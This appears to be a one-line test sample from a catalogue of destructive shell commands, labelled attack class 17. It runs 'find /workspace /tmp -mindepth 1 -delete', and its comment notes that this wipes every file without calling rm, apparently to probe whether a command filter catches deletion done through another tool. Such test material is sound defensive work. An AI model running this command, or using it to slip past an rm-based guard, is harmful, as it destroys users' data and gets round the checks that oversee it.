#!/usr/bin/env bash
# attack-class: 17
# title: find -delete
# why: -delete removes every match without any rm

find /workspace /tmp -mindepth 1 -delete
